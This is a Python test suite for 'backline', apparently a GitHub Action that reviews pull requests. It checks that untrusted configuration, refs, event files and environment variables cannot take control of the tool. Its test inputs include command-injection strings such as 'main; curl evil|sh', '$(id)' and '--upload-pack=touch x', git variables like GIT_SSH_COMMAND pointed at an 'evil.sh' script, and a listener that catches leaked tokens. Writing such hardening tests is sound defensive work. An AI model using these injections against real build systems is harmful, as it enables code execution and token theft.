"""Section G: how the action starts: what the head, the event, the environment and the inputs cannot decide."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from github_server import GitHub
from repo import branched
from running import Run
from test_publish import AFTER, BEFORE

from backline import cli
from backline.intake import collected
from backline.intake.github import Client

HEAD_CONFIG = (
    "enabled: false\n",
    "paths: ['!**']\n",
    "fail-on: never\n",
    "severity: critical\n",
    "max-comments: 0\n",
    "ignore: [{path: '**', reason: x}]\n",
    "base_url: https://evil.example\n",
    "{{{\n",
    "a: &a [*a]\n",
)


@pytest.fixture
def server(tmp_path: Path) -> Iterator[GitHub]:
    with GitHub(branched(tmp_path / "repo", BEFORE, AFTER)) as made:
        made.open(made.repo.head())
        yield made
        assert made.broken == []


def backline(run: Run, *args: str, **environ: str) -> subprocess.CompletedProcess[str]:
    """The command in a process of its own, as the action starts it."""
    env = {"PATH": os.environ["PATH"], **run.environ, **environ}
    return subprocess.run(
        [sys.executable, "-I", "-m", "backline", *args],
        env=env,
        cwd=run.folder,
        capture_output=True,
        text=True,
        timeout=60,
    )


def in_process(run: Run) -> int:
    cli_in(run, ["collect", "-o", str(run.change)])
    cli_in(run, ["review", "--change", str(run.change), "-o", str(run.report_file)])
    return cli_in(run, ["publish", str(run.report_file), "--change", str(run.change)])


def three(run: Run, **environ: str) -> tuple[int, str]:
    done = [
        backline(run, "collect", "-o", str(run.change), **environ),
        backline(run, "review", "--change", str(run.change), "-o", str(run.report_file), **environ),
        backline(run, "publish", str(run.report_file), "--change", str(run.change), **environ),
    ]
    return done[-1].returncode, "".join(each.stdout + each.stderr for each in done)


@pytest.mark.parametrize("text", HEAD_CONFIG)
def test_131_132_133_what_the_head_says_of_the_configuration_does_not_count(tmp_path: Path, text: str) -> None:
    before = {**BEFORE, ".github/backline.yml": "fail-on: high\n"}
    with GitHub(branched(tmp_path / "repo", before, {**AFTER, ".github/backline.yml": text})) as server:
        server.open(server.repo.head())
        run = Run(server, tmp_path)
        assert in_process(run) == 1
        assert {thread.path for thread in server.pull.threads} >= {"app/db.py"}


def test_131_a_base_that_leaves_everything_out_says_so(tmp_path: Path) -> None:
    before = {**BEFORE, ".github/backline.yml": "paths: ['!**']\n"}
    with GitHub(branched(tmp_path / "repo", before, AFTER)) as server:
        server.open(server.repo.head())
        run = Run(server, tmp_path)
        assert in_process(run) == 0
        assert "skipped" in run.summary.read_text()


@pytest.mark.parametrize("text", ["nonsense: 1\n", "max-comments: many\n", "{{{\n"])
def test_a_wrong_configuration_of_the_base_is_an_error_that_names_it(tmp_path: Path, text: str) -> None:
    with GitHub(branched(tmp_path / "repo", {**BEFORE, ".github/backline.yml": text}, AFTER)) as server:
        server.open(server.repo.head())
        run = Run(server, tmp_path)
        code, log = three(run)
        assert code in (2, 3)
        assert "max-comments" in log or ".github/backline.yml" in log


@pytest.mark.parametrize(
    "text",
    [
        "main; curl evil|sh",
        "$(id)",
        "`id`",
        "--upload-pack=touch x",
        "--output=x",
        "HEAD@{1}",
        "a..b",
        "refs/heads/../x",
        "a\nb",
        "x" * 10_000,
        "-",
        ".",
        "a b",
        "a:b",
        "a^b",
        "a~1",
        "a*",
        "a?",
        "[a]",
        "\\a",
        "//a",
    ],
)
def test_145_refs_that_are_none_end_with_2_before_anything_is_asked(server: GitHub, tmp_path: Path, text: str) -> None:
    run = Run(server, tmp_path, GITHUB_EVENT_NAME="workflow_dispatch", BACKLINE_BASE="main", BACKLINE_HEAD=text)
    done = cli_in(run, ["collect", "-o", str(run.change)])
    assert done == 2
    assert (server.requests, server.fetches) == ([], [])
    assert not run.change.exists()


@pytest.mark.parametrize(
    "text", ["1e3", "-1", "0x10", "１２", "7;id", "$(id)", "--", "a/b", "https://evil.example/x", "7 7", "#"]
)
def test_145_numbers_that_are_none_end_with_2(server: GitHub, tmp_path: Path, text: str) -> None:
    run = Run(server, tmp_path, BACKLINE_PULL_REQUEST=text)
    assert cli_in(run, ["collect", "-o", str(run.change)]) == 2
    assert server.requests == []


def cli_in(run: Run, argv: list[str]) -> int:
    before = dict(os.environ)
    os.environ.clear()
    os.environ.update({"PATH": before["PATH"], **run.environ})
    try:
        return cli.run(argv)
    finally:
        os.environ.clear()
        os.environ.update(before)


def test_134_the_addresses_of_other_services_count_for_nothing_here(server: GitHub, tmp_path: Path) -> None:
    run = Run(server, tmp_path)
    poison = {
        "ANTHROPIC_BASE_URL": "http://127.0.0.1:9",
        "HTTP_PROXY": "",
        "PYTHONWARNINGS": "error",
        "RUNNER_DEBUG": "1",
        "ACTIONS_STEP_DEBUG": "true",
        "PYTHONFAULTHANDLER": "1",
    }
    code, log = three(run, **poison)
    assert code == 0
    assert len(server.pull.threads) == 2
    assert server.token not in log


@pytest.mark.parametrize(
    "name",
    [
        "GIT_DIR",
        "GIT_EXTERNAL_DIFF",
        "GIT_SSH_COMMAND",
        "GIT_PROXY_COMMAND",
        "GIT_ASKPASS",
        "GIT_TRACE_CURL",
        "GIT_CONFIG_GLOBAL",
        "GIT_EXEC_PATH",
        "GIT_TEMPLATE_DIR",
    ],
)
def test_142_no_variable_makes_git_run_or_print_anything(server: GitHub, tmp_path: Path, name: str) -> None:
    witness = tmp_path / "witness"
    script = tmp_path / "evil.sh"
    script.write_text(f"#!/bin/sh\ntouch {witness}\n")
    script.chmod(0o755)
    run = Run(server, tmp_path)
    done = backline(run, "collect", "-o", str(run.change), **{name: str(script)})
    assert done.returncode == 0, done.stderr
    assert not witness.exists()
    assert "Authorization" not in done.stdout + done.stderr


def test_142_git_settings_by_environment_do_not_reach_the_fetch(server: GitHub, tmp_path: Path) -> None:
    run = Run(server, tmp_path)
    evil = {
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "url.http://127.0.0.1:9/.insteadOf",
        "GIT_CONFIG_VALUE_0": f"{server.url}/",
    }
    assert backline(run, "collect", "-o", str(run.change), **evil).returncode == 0
    assert server.fetches


@pytest.mark.parametrize("where", ["_call", "read", "query", "write", "close"])
def test_140_a_bug_says_its_type_and_place_and_no_value(
    server: GitHub, tmp_path: Path, where: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run = Run(server, tmp_path)
    assert run.collect() == 0
    run.review()

    def broken(*args: object) -> object:
        secret = server.token
        raise ArithmeticError(f"header {secret} {args}")

    monkeypatch.setattr(Client, where, broken)
    codes = {
        cli_in(run, ["collect", "-o", str(tmp_path / "c")]),
        cli_in(run, ["publish", str(run.report_file), "--change", str(run.change)]),
    }
    out = capsys.readouterr()
    assert 70 in codes
    assert server.token not in out.out + out.err
    assert "bug: ArithmeticError at " in out.err


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", "null", '"x"', "{" * 100_000, "\xff", '{"pull_request": {"head": {"sha": "' + "a" * 5000 + '"}}}'],
)
def test_an_event_file_of_any_shape_ends_with_2(server: GitHub, tmp_path: Path, text: str) -> None:
    run = Run(server, tmp_path)
    run.event.write_text(text, "latin-1")
    assert cli_in(run, ["collect", "-o", str(run.change)]) == 2
    assert server.requests == []


def test_an_event_of_another_pull_request_shape_is_no_crash(server: GitHub, tmp_path: Path) -> None:
    run = Run(server, tmp_path)
    event = json.loads(run.event.read_text())
    for key in ("user", "base", "draft", "number", "head", "state"):
        broken = {**event, "pull_request": {**event["pull_request"], key: ["x"]}}
        run.event.write_text(json.dumps(broken))
        assert cli_in(run, ["collect", "-o", str(tmp_path / key)]) in (0, 2)


def test_160_no_git_no_room_and_no_folder_are_one_line_and_2(
    server: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = Run(server, tmp_path)
    assert cli_in(run, ["collect", "-o", str(run.event / "below-a-file")]) == 2
    empty = tmp_path / "empty"
    empty.mkdir()
    run.environ["PATH"] = str(empty)
    assert cli_in(run, ["collect", "-o", str(tmp_path / "x")]) == 2
    err = capsys.readouterr().err
    assert "git was not found on PATH" in err
    assert all(line.startswith("backline: ") for line in err.strip().split("\n"))


def test_138_a_redirected_fetch_gets_no_token(tmp_path: Path) -> None:
    seen: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as thief, GitHub(branched(tmp_path / "repo", BEFORE, AFTER)) as server:
        threading.Thread(target=_listen, args=(thief, seen), daemon=True).start()
        server.open(server.repo.head())
        server.redirect = f"http://localhost:{thief.getsockname()[1]}"
        run = Run(server, tmp_path)
        done = backline(run, "collect", "-o", str(run.change))
        assert done.returncode == 2
        assert "git fetch failed" in done.stderr
    assert seen == []


def _listen(thief: socket.socket, seen: list[bytes]) -> None:
    with contextlib.suppress(OSError):
        seen.append(thief.accept()[0].recv(10_000))


def test_159_a_draft_a_bot_and_a_closed_pull_request_never_cost_a_key(server: GitHub, tmp_path: Path) -> None:
    for change, limited in (
        ({"draft": True}, "a draft"),
        ({"user": {"login": "x[bot]", "type": "Bot"}}, "written by a bot"),
    ):
        run = Run(server, tmp_path)
        event = json.loads(run.event.read_text())
        run.event.write_text(json.dumps({**event, "pull_request": {**event["pull_request"], **change}}))
        assert run.collect() == 0
        assert collected.load(run.change).limited == limited
        done = backline(
            run, "review", "--change", str(run.change), "-o", str(run.report_file), ANTHROPIC_API_KEY="sk-none"
        )
        assert done.returncode == 0
        made = json.loads(run.report_file.read_text())
        assert (made["engine"], made["usage"]["calls"]) == ("rules", 0)
        assert f"rules only: {limited}" in made["notes"]
